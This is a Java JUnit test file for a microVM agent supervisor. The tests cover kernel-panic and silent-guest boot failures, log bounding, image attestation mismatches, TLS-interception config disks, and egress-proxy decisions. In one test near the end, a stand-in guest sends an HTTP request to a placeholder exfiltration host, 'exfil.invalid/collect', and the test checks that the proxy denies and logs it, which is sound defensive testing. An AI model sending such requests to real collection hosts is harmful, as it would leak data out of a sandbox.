package dev.rtfs.microvm.supervisor;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rtfs.microvm.controlplane.chain.ChainRecord;
import dev.rtfs.microvm.controlplane.chain.ChainVerifier;
import dev.rtfs.microvm.controlplane.chain.VerifyReport;
import dev.rtfs.microvm.egressproxy.observe.DecisionRecord;
import dev.rtfs.microvm.guest.RunConfigDisk;
import dev.rtfs.microvm.vmm.attest.Sha256;
import tools.jackson.databind.JsonNode;
import dev.rtfs.microvm.rtfslang.SourceFile;
import dev.rtfs.microvm.vmm.qemu.QemuSynthesizer;
import dev.rtfs.microvm.vmm.VmSynthesizer;
import dev.rtfs.microvm.vmm.attest.Sha256ImageMeasurer;
import dev.rtfs.microvm.vmm.qemu.AcceleratorProbe;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * How {@code run} ends when the guest never says hello, without processes: a {@link VmLauncher} stand-in prints
 * what a guest would and exits (or hangs). The real QEMU case is in {@link SupervisorBootTest}.
 */
class SupervisorBootFailureTest {

    static final Path ROOT = Path.of(System.getProperty("rtfs.repo.root", "..")).toAbsolutePath().normalize();
    static final String PANIC = "Kernel panic - not syncing: No working init found.  Try passing init= option to kernel.";

    @TempDir
    Path dir;
    Path image;
    Path plan;

    /** An image directory that passes the deploy checks (the rootfs hash in image.lock), with files nobody boots. */
    @BeforeEach
    void image() throws IOException {
        image = dir.resolve("image");
        Files.createDirectories(image.resolve("kernels"));
        Files.createDirectories(image.resolve("images"));
        Files.write(image.resolve("kernels/vmlinuz-min"), new byte[] {1, 2, 3});
        Files.write(image.resolve("images/initramfs.cpio"), new byte[] {4, 5, 6});
        Files.write(image.resolve("images/agent-rootfs.img"), new byte[4096]);
        Files.write(image.resolve("images/capabilities.img"), new byte[4096]);
        lock();
        plan = Files.writeString(dir.resolve("plan.rtfs"), "(plan :program (do (step \"hi\" (call :echo {:x 1}))))");
    }

    /** image.lock with the hashes of the four files as they are now. */
    void lock() throws IOException {
        Sha256ImageMeasurer sha = new Sha256ImageMeasurer();
        Files.writeString(image.resolve("images/image.lock"), "{\"version\":1,\"artifacts\":{"
                + "\"vmlinuz-min\":\"" + sha.measure(image.resolve("kernels/vmlinuz-min")) + "\","
                + "\"initramfs.cpio\":\"" + sha.measure(image.resolve("images/initramfs.cpio")) + "\","
                + "\"agent-rootfs.img\":\"" + sha.measure(image.resolve("images/agent-rootfs.img")) + "\","
                + "\"capabilities.img\":\"" + sha.measure(image.resolve("images/capabilities.img")) + "\"}}");
    }

    /** A file's text as the CLI hands it over: read once, named by its path. */
    static SourceFile source(Path file) throws IOException {
        return new SourceFile(file.toString(), Files.readString(file));
    }

    RunRequest request() throws IOException {
        return request(source(ROOT.resolve("docs/examples/agent.config.microvm.rtfs")));
    }

    RunRequest request(SourceFile config) throws IOException {
        return RunRequest.of(config, source(plan), image, dir.resolve("run"))
                .withGuest(image.resolve("images/initramfs.cpio"), Optional.of(image.resolve("images/capabilities.img")))
                .withChainKey(dir.resolve("state/chain-key"));
    }

    /** Prints {@code output} into the guest log, then exits with {@code code}; or never exits when {@code code} is null. */
    static final class ScriptedLauncher implements VmLauncher {
        final String output;
        final Integer code;
        final List<CompletableFuture<Integer>> exits = new CopyOnWriteArrayList<>();

        ScriptedLauncher(String output, Integer code) {
            this.output = output;
            this.code = code;
        }

        @Override
        public RunningVm start(List<String> argv, GuestLog log) {
            InputStream in = new ByteArrayInputStream(output.getBytes(StandardCharsets.UTF_8));
            CompletableFuture<Integer> exit = new CompletableFuture<>();
            CompletableFuture<Void> drained = log.pump(in);
            if (code != null) {
                drained.thenRun(() -> exit.complete(code));
            }
            exits.add(exit);
            return new RunningVm() {
                @Override
                public CompletableFuture<Integer> exit() {
                    return exit;
                }

                @Override
                public void kill() {
                    exit.complete(137);
                }
            };
        }
    }

    List<ChainRecord> chain(RunReport report) throws IOException {
        List<ChainRecord> records = new ArrayList<>();
        assertThat(ChainVerifier.verify(report.runDir().resolve("chain"), null, records::add))
                .isInstanceOf(VerifyReport.Valid.class);
        return records;
    }

    @Test
    void aGuestThatExitsBeforeHelloEndsTheRunAtOnceWithItsPanicLineAndOneBootInTheChain() throws Exception {
        // A call trace follows the panic line, longer than the lines an error shows: the cause is still named.
        ScriptedLauncher launcher = new ScriptedLauncher("[    0.9] Run /init as init process\n" + PANIC + "\n"
                + "[    1.0]  trace line\n".repeat(40), 0);
        List<RunEvent> events = new CopyOnWriteArrayList<>();
        long start = System.nanoTime();

        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher)
                .run(request().withTimeouts(Duration.ofSeconds(60), Duration.ofSeconds(5), Duration.ofSeconds(5)), events::add);

        assertThat(Duration.ofNanos(System.nanoTime() - start)).as("not the 60 s hello timeout").isLessThan(Duration.ofSeconds(20));
        assertThat(report.succeeded()).isFalse();
        assertThat(report.attempts()).as("an image that exits before hello is not booted again").isEqualTo(1);
        assertThat(report.problem()).hasValueSatisfying(p -> assertThat(p)
                .contains("exited before it said hello", "VMM exit code 0", "cause: " + PANIC, "guest.log"));
        List<ChainRecord> records = chain(report);
        ChainRecord exited = records.stream().filter(r -> r.kind().equals("vm.exited")).findFirst().orElseThrow();
        assertThat(exited.data().get("code").asInt()).isZero();
        assertThat(exited.data().get("before_hello").asBoolean()).isTrue();
        assertThat(exited.data().has("elapsed_ms")).isTrue();
        assertThat(records).extracting(ChainRecord::kind).containsSubsequence("vm.started", "vm.exited", "run.finished")
                .containsOnlyOnce("vm.started");
        assertThat(events).extracting(RunEvent::phase).containsSubsequence(RunEvent.Phase.VALIDATED,
                RunEvent.Phase.PROXY, RunEvent.Phase.VM_STARTED, RunEvent.Phase.BOOT_FAILED, RunEvent.Phase.VM_EXITED,
                RunEvent.Phase.CHAIN);
        Path log = report.runDir().resolve("guest.log");
        assertThat(Files.readString(log)).contains(PANIC);
        assertThat(Files.getPosixFilePermissions(log)).extracting(Object::toString)
                .containsExactlyInAnyOrder("OWNER_READ", "OWNER_WRITE");
    }

    /** Records every argv it is asked to start; each guest prints nothing and exits before hello. */
    static final class RecordingLauncher implements VmLauncher {
        final List<List<String>> argvs = new CopyOnWriteArrayList<>();
        final ScriptedLauncher exits = new ScriptedLauncher("", 0);

        @Override
        public RunningVm start(List<String> argv, GuestLog log) {
            argvs.add(List.copyOf(argv));
            return exits.start(argv, log);
        }
    }

    @Test
    void anInterceptingRunAttachesItsCaOnAReadOnlyRunConfigDiskAndRecordsItsHashInRunStarted() throws Exception {
        // The example config intercepts (the demo's strict DLP sees inside HTTPS).
        String config = Files.readString(ROOT.resolve("docs/examples/agent.config.microvm.rtfs"));
        assertThat(config).contains(":tls :intercept");
        RecordingLauncher launcher = new RecordingLauncher();
        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher)
                .run(request(new SourceFile(dir.resolve("intercept.config.rtfs").toString(), config)));
        assertThat(report.refusals()).isEmpty();

        Path disk = report.runDir().resolve("run-config.img");
        RunConfigDisk onDisk = RunConfigDisk.parse(Files.readAllBytes(disk));
        assertThat(onDisk.caPem()).startsWith("-----BEGIN CERTIFICATE-----").doesNotContain("PRIVATE KEY");
        List<String> argv = launcher.argvs.getFirst();
        assertThat(argv).contains("id=run_config,file=" + disk + ",format=raw,if=none,readonly=on",
                "virtio-blk-device,drive=run_config");
        assertThat(argv.get(argv.indexOf("-append") + 1)).contains("rtfs.run_config=vdc");

        ChainRecord started = chain(report).stream().filter(r -> r.kind().equals("run.started")).findFirst().orElseThrow();
        JsonNode runConfig = started.data().get("run_config");
        assertThat(runConfig.get("disk").asString()).isEqualTo("run-config.img");
        assertThat(runConfig.get("sha256").asString()).isEqualTo(Sha256.ofFile(disk));
        assertThat(runConfig.get("ca_sha256").asString()).isEqualTo(onDisk.caSha256());
        // The attested images are measured as always; the run's disk is not one of them.
        assertThat(started.data().get("artifacts").toString()).doesNotContain("run-config");
    }

    @Test
    void aRunThatDoesNotInterceptHasNoRunConfigDisk() throws Exception {
        // The example config intercepts: the same config tunnelling.
        String config = Files.readString(ROOT.resolve("docs/examples/agent.config.microvm.rtfs"))
                .replace(":tls :intercept", ":tls :tunnel");
        assertThat(config).contains(":tls :tunnel");
        RecordingLauncher launcher = new RecordingLauncher();
        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher)
                .run(request(new SourceFile(dir.resolve("tunnel.config.rtfs").toString(), config)));
        assertThat(report.refusals()).isEmpty();
        assertThat(report.runDir().resolve("run-config.img")).doesNotExist();
        assertThat(String.join(" ", launcher.argvs.getFirst())).doesNotContain("run_config");
        assertThat(chain(report).stream().filter(r -> r.kind().equals("run.started")).findFirst().orElseThrow()
                .data().has("run_config")).isFalse();
    }

    @Test
    void aSilentGuestIsBoundedByTheHelloTimeoutSaysSoAndIsTriedWithinTheBootBudget() throws Exception {
        ScriptedLauncher launcher = new ScriptedLauncher("", null);

        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher)
                .run(request().withTimeouts(Duration.ofMillis(700), Duration.ofSeconds(5), Duration.ofSeconds(5))
                        .withMaxAttempts(2));

        assertThat(report.attempts()).isEqualTo(2);
        assertThat(launcher.exits).hasSize(2).allMatch(CompletableFuture::isDone); // both killed
        assertThat(report.problem()).hasValueSatisfying(p -> assertThat(p)
                .contains("no hello from the guest within", "boot 2", "printed nothing"));
        assertThat(chain(report)).filteredOn(r -> r.kind().equals("vm.exited"))
                .allMatch(r -> r.data().get("before_hello").asBoolean() && r.data().get("code").asInt() == 137);
    }

    @Test
    void aGuestThatFloodsItsLogKeepsTheLogBoundedAndTheLastLinesReadable() throws Exception {
        StringBuilder flood = new StringBuilder();
        for (int i = 0; i < 20_000; i++) {
            flood.append("spam ").append(i).append(" \u001b[31mred\u001b[0m ").append("x".repeat(50)).append('\n');
        }
        flood.append(PANIC).append('\n');
        ScriptedLauncher launcher = new ScriptedLauncher(flood.toString(), 0);

        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher)
                .run(request().withGuestLogMaxBytes(64 * 1024));

        Path log = report.runDir().resolve("guest.log");
        assertThat(Files.size(log)).isLessThanOrEqualTo(64 * 1024);
        assertThat(Files.size(log.resolveSibling("guest.log.1"))).isLessThanOrEqualTo(64 * 1024);
        assertThat(Files.readString(log)).contains(PANIC);
        assertThat(report.problem()).hasValueSatisfying(p -> assertThat(p).contains("cause: " + PANIC)
                .doesNotContain("\u001b").contains("\\u001b[31mred"));
    }

    @Test
    void aMissingOrEmptyKernelOrInitramfsIsNamedBeforeAnythingStarts() throws Exception {
        ScriptedLauncher launcher = new ScriptedLauncher("", 0);
        Files.write(image.resolve("images/initramfs.cpio"), new byte[0]);
        RunReport empty = new Supervisor(VmSynthesizer.standard(), launcher).run(request());
        assertThat(empty.problem()).hasValueSatisfying(p -> assertThat(p)
                .contains("initramfs " + image.resolve("images/initramfs.cpio"), "empty"));

        Files.delete(image.resolve("kernels/vmlinuz-min"));
        RunReport missing = new Supervisor(VmSynthesizer.standard(), launcher).run(request());
        assertThat(missing.problem()).hasValueSatisfying(p -> assertThat(p)
                .contains("kernel image not found: " + image.resolve("kernels/vmlinuz-min")
                        + " (paths in :microvm are relative to --image DIR, here " + image.toAbsolutePath() + ";"));
        assertThat(launcher.exits).as("no VM was started").isEmpty();
        assertThat(missing.succeeded()).isFalse();
    }

    @Test
    void aBootCheckOfAnImageThatPanicsFailsWithThePanicLineAndKeepsOnlyItsGuestLog() throws Exception {
        BootCheck check = new BootCheck(new ScriptedLauncher(PANIC + "\n", 0), AcceleratorProbe.tcg(), Duration.ofSeconds(60));
        BootCheck.Guest guest = new BootCheck.Guest(image.resolve("kernels/vmlinuz-min"),
                image.resolve("images/initramfs.cpio"), image.resolve("images/agent-rootfs.img"), Optional.empty());

        assertThatThrownBy(() -> check.boot(guest)).isInstanceOf(BootCheck.BootCheckFailed.class)
                .hasMessageContaining("exited before it said hello").hasMessageContaining("cause: " + PANIC)
                .satisfies(e -> {
                    Path log = Path.of(e.getMessage().replaceAll("(?s).*guest log \\(([^)]*)\\).*", "$1"));
                    assertThat(Files.readString(log)).contains(PANIC);
                    try (var left = Files.list(log.getParent())) {
                        assertThat(left).as("sockets and chain removed").containsExactly(log);
                    }
                });
    }

    @Test
    void aSwappedInitramfsIsRefusedBeforeBootAndTheChainRecordsEveryMeasuredArtifact() throws Exception {
        ScriptedLauncher launcher = new ScriptedLauncher("", 0);
        Files.write(image.resolve("images/initramfs.cpio"), new byte[] {4, 5, 7}); // /init replaced after the build

        RunReport report = new Supervisor(VmSynthesizer.standard(), launcher).run(request());

        assertThat(launcher.exits).as("nothing booted").isEmpty();
        assertThat(report.refusals()).extracting(d -> d.code().name()).containsExactly("ATTESTATION_INITRAMFS_MISMATCH");
        List<ChainRecord> records = new ArrayList<>();
        ChainVerifier.verify(report.runDir().resolve("chain"), null, records::add);
        ChainRecord started = records.stream().filter(r -> r.kind().equals("run.started")).findFirst().orElseThrow();
        assertThat(started.data().get("artifacts").propertyNames()).containsExactlyInAnyOrder("kernel", "initramfs", "rootfs",
                "capabilities");
        assertThat(started.data().get("artifacts").get("initramfs").asString())
                .isEqualTo(new Sha256ImageMeasurer().measure(image.resolve("images/initramfs.cpio")));
        assertThat(started.data().get("image_dir").asString()).as("which image directory the run was given")
                .isEqualTo(image.toAbsolutePath().toString());
        assertThat(records).extracting(ChainRecord::kind).containsSubsequence("run.started", "deploy.refused");
    }

    @Test
    void aFileThatIsNotOursAtASocketPathStopsTheRunAndIsKept() throws Exception {
        Path run = Files.createDirectories(dir.resolve("run"));
        Path notes = Files.writeString(run.resolve("qmp.sock"), "not a socket");
        ScriptedLauncher launcher = new ScriptedLauncher("", 0);

        assertThatThrownBy(() -> new Supervisor(VmSynthesizer.standard(), launcher).run(request()))
                .isInstanceOf(IOException.class).hasMessageContaining(notes.toString())
                .hasMessageContaining("not a socket");
        assertThat(Files.readString(notes)).isEqualTo("not a socket");
        assertThat(launcher.exits).isEmpty();
    }

    @Test
    void aRunTakesTheConfigAndPlanTextItIsGivenAndOpensNeitherFile() throws Exception {
        // Names of files that do not exist: the run must not read them again (the CLI read them, bounded, once).
        SourceFile config = new SourceFile(dir.resolve("gone/agent.config.rtfs").toString(),
                Files.readString(ROOT.resolve("docs/examples/agent.config.microvm.rtfs")));
        SourceFile givenPlan = new SourceFile(dir.resolve("gone/plan.rtfs").toString(),
                "(plan :program (do (step \"only\" (call :echo {:x 2}))))");
        RunRequest req = RunRequest.of(config, givenPlan, image, dir.resolve("run"))
                .withGuest(image.resolve("images/initramfs.cpio"), Optional.of(image.resolve("images/capabilities.img")))
                .withChainKey(dir.resolve("state/chain-key"));
        List<RunEvent> events = new CopyOnWriteArrayList<>();

        RunReport report = new Supervisor(VmSynthesizer.standard(), new ScriptedLauncher(PANIC + "\n", 0))
                .run(req, events::add);

        assertThat(report.refusals()).isEmpty();
        assertThat(report.attempts()).as("validated and admitted from the given text, then booted").isEqualTo(1);
        assertThat(events).filteredOn(e -> e.phase() == RunEvent.Phase.VALIDATED).singleElement()
                .satisfies(e -> assertThat(e.message()).contains("1 steps"));
        ChainRecord started = chain(report).stream().filter(r -> r.kind().equals("run.started")).findFirst().orElseThrow();
        assertThat(started.data().get("config").asString()).isEqualTo(config.name());
        assertThat(started.data().get("plan").asString()).isEqualTo(givenPlan.name());

        SourceFile broken = new SourceFile(config.name(), config.text().replace(":vcpus 1", ":vcpus 0"));
        RunReport refused = new Supervisor(VmSynthesizer.standard(), new ScriptedLauncher("", 0))
                .run(RunRequest.of(broken, givenPlan, image, dir.resolve("run-refused")));
        assertThat(refused.refusals()).as("the given text is what is validated").isNotEmpty()
                .allSatisfy(d -> assertThat(d.span().source()).isEqualTo(config.name()));
    }

    @Test
    void theProxysDecisionsReachTheRunReportTypedAndTheChainRecordsEachOfThem() throws Exception {
        // A guest that asks the proxy for a page before the first step (deny-all: refused by name, nothing is
        // resolved or dialed), then panics. Its only connection is to the proxy's listener on 127.0.0.1.
        VmLauncher asksThenPanics = (argv, log) -> {
            int port = argv.stream().filter(a -> a.contains(QemuSynthesizer.GUESTFWD_RELAY)).findFirst()
                    .map(a -> Integer.parseInt(a.substring(a.indexOf(QemuSynthesizer.GUESTFWD_RELAY)
                            + QemuSynthesizer.GUESTFWD_RELAY.length()).replaceAll("[^0-9].*", "")))
                    .orElseThrow();
            try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
                OutputStream o = s.getOutputStream();
                o.write("GET http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\nConnection: close\r\n\r\n"
                        .getBytes(StandardCharsets.US_ASCII));
                o.flush();
                s.getInputStream().readAllBytes();
            }
            return new ScriptedLauncher(PANIC + "\n", 0).start(argv, log);
        };

        RunReport report = new Supervisor(VmSynthesizer.standard(), asksThenPanics).run(request());

        assertThat(report.egress()).singleElement().satisfies(d -> {
            assertThat(d).isInstanceOf(DecisionRecord.class);
            assertThat(d.agentId()).isEqualTo(report.agentId());
            assertThat(d.step()).isEmpty();
            assertThat(d.method()).isEqualTo("GET");
            assertThat(d.host()).isEqualTo("exfil.invalid");
            assertThat(d.outcome()).isEqualTo("DENY");
            assertThat(d.reason()).isEqualTo("between-steps");
            assertThat(d.status()).isEqualTo(403);
        });
        assertThat(chain(report)).filteredOn(r -> r.kind().equals("egress.decision")).singleElement()
                .satisfies(r -> {
                    DecisionRecord d = report.egress().getFirst();
                    assertThat(r.data().get("host").asString()).isEqualTo(d.host());
                    assertThat(r.data().get("decision").asString()).isEqualTo(d.outcome());
                    assertThat(r.data().get("reason").asString()).isEqualTo(d.reason());
                    assertThat(r.data().get("port").asInt()).isEqualTo(d.port());
                });
        assertThat(RunTable.renderEgress(report))
                .contains("step -: GET exfil.invalid:80 -> DENY (between-steps, status 403)");
        assertThat(RunReportJson.toJson(report).get("egress").get(0).get("decision").asString()).isEqualTo("DENY");
    }
}
